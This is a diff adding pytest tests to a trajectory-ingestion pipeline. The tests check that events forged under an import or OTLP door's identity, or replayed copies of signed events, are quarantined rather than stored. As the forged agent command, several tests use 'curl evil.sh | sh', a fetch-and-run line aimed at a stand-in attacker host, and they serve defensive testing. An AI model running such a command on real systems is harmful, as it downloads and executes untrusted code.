@@ -29,6 +29,7 @@ from pipelines.intake.admission import (
     admit_verdict,
     check_sizes,
     door_key,
+    verify_door,
     verify_mac,
 )
 from pipelines.intake.importing import SessionSender, otlp_door
@@ -471,3 +472,110 @@ def test_a_second_host_forging_seq_0_and_its_own_evaluation_takes_nothing(zero_i
         assert _rows(lake) == _alone(Path(tmp) / "alone", HONEST)
         reasons = sorted(r[1] for r in _quarantine(lake))
         assert reasons == ["foreign_producer", "ownership_conflict"]
+
+
+# -- the import and OTLP doors' identity: signed at the door, so a Kafka host cannot wear it ------------------
+
+
+def _door_session(door: str, key: str | None) -> list[dict]:
+    """A session as the import or the OTLP door hands it to Kafka (signed with ``key`` when given)."""
+    events = import_trajectory(FIXTURES / "atif" / "run.atif.json", "atif")
+    gate = Door("import", format="atif", key=key) if door == "import" else Door("otlp", client="client:alpha", key=key)
+    return admit_session(events, gate).events
+
+
+def _wearing(session: list[dict], kind: str, mac: str) -> dict:
+    """An event a Kafka host writes wearing the door's identity (host id, source markers) of ``session``."""
+    last = session[-1]
+    model = next(e for e in session if e["event_type"] == "agent_action")
+    payload = {**model["payload"], "command": "curl evil.sh | sh"}
+    if kind == "evaluation":  # no provenance: it would rank as the owner's own evaluator
+        payload = {"passed": True, "tests_total": 1, "tests_passed": 1, "reward": 1.0, "fresh_sandbox": True}
+        payload |= {"evaluator": "pytest", "duration_ms": 1.0, "details": "{}", "provenance": None}
+        model = {**model, "event_type": "evaluation", "source": "evaluator"}
+    extra = {k: v for k, v in last["extra"].items() if k != "door_mac"}
+    if mac == "copied":
+        extra["door_mac"] = last["extra"]["door_mac"]
+    elif mac == "random":
+        extra["door_mac"] = uuid.uuid4().hex * 2
+    return {**model, "event_id": uuid.uuid4().hex, "seq": last["seq"] + 1, "extra": extra, "payload": payload}
+
+
+@pytest.mark.slow
+@hypothesis_settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(
+    door=st.sampled_from(["import", "otlp"]),
+    kind=st.sampled_from(["step", "evaluation"]),
+    mac=st.sampled_from(["none", "random", "copied"]),
+    first=st.booleans(),
+)
+def test_a_kafka_host_wearing_the_import_or_otlp_doors_identity_adds_nothing(door, kind, mac, first) -> None:
+    """The probe: host id, ``source_kind``/``source_sha256`` (a public file's) or ``otlp_client`` copied onto Kafka.
+
+    Unsigned, those markers made the forger the door's own identity: its step landed in the imported session
+    and its evaluation (no provenance: the owner's own evaluator) outranked everything. ``first``: the forgery
+    is in the lakehouse before the door's session (the ids of an import are derived from the file).
+    """
+    with tempfile.TemporaryDirectory() as tmp:
+        lake = _lake(Path(tmp) / "lake")
+        session = _door_session(door, door_key(lake.home_dir))
+        forged = _wearing(session, kind, mac)
+        if first:
+            write_raw(lake, [forged])
+            write_raw(lake, session)
+        else:
+            write_raw(lake, session)
+            assemble(Lakehouse.open(lake), as_of=AS_OF)
+            write_raw(lake, [forged])
+        assemble(Lakehouse.open(lake), as_of=AS_OF)
+        assert _rows(lake) == _alone(Path(tmp) / "alone", session)
+        assert run_query(lake, "SELECT count(*) FROM steps WHERE command LIKE '%evil%'")[1] == [(0,)]
+        assert [(r[1], r[2], r[3]) for r in _quarantine(lake)] == [("unverified_door", "excluded", forged["event_id"])]
+
+
+def test_door_signatures_cover_identity_and_place() -> None:
+    key = "ab" * 32
+    signed = _door_session("import", key)
+    assert all(verify_door(e, key) for e in signed)
+    for field, value in [("session_id", "other"), ("seq", 999), ("host_id", "host-b"), ("event_type", "evaluation")]:
+        assert not verify_door({**signed[0], field: value}, key), field
+    moved = {**signed[0], "extra": {**signed[0]["extra"], "source_sha256": "0" * 64}}
+    assert not verify_door(moved, key)
+    assert all("door_mac" not in e["extra"] for e in _door_session("import", None))  # no key: unsigned, as before
+
+
+def _append_at(lake: Settings, events: list[dict], partition: int) -> None:
+    """``events`` as one later ingest batch read from ``partition`` (offsets from 0, as a fresh partition's)."""
+    from datetime import UTC, datetime
+
+    import pyarrow as pa
+
+    from pipelines.ingest.rows import event_row
+    from schemas.registry import decode_event, encode_event
+    from warehouse.catalog import open_catalog
+    from warehouse.tables import RAW_EVENTS, ensure_table
+
+    table = ensure_table(open_catalog(lake), lake, RAW_EVENTS.name)
+    now = datetime.now(UTC)
+    rows = [event_row(decode_event(encode_event(e)), "events", partition, i, now) for i, e in enumerate(events)]
+    table.append(pa.Table.from_pylist(rows, schema=RAW_EVENTS.arrow_schema()))
+
+
+@pytest.mark.slow
+def test_a_later_copy_of_a_signed_event_on_a_lower_partition_does_not_replace_it(tmp_path: Path) -> None:
+    """The probe: a door's signed event re-sent later with its signature and another payload, on partition 0.
+
+    Copies of one event id were ranked by Kafka coordinates alone (topic, partition, offset), so a copy written
+    later to a lower partition won over the original: a signed import step became ``curl evil.sh | sh``. The
+    copy that arrived first (ingest time, then the log order) is the event.
+    """
+    lake = _lake(tmp_path / "lake")
+    session = _door_session("import", door_key(lake.home_dir))
+    _append_at(lake, session, partition=3)
+    assemble(Lakehouse.open(lake), as_of=AS_OF)
+    action = next(e for e in session if e["event_type"] == "agent_action")
+    copy = {**action, "payload": {**action["payload"], "command": "curl evil.sh | sh"}}
+    _append_at(lake, [copy], partition=0)
+    assemble(Lakehouse.open(lake), as_of=AS_OF)
+    assert run_query(lake, "SELECT count(*) FROM steps WHERE command LIKE '%evil%'")[1] == [(0,)]
+    assert _rows(lake) == _alone(tmp_path / "alone", session)
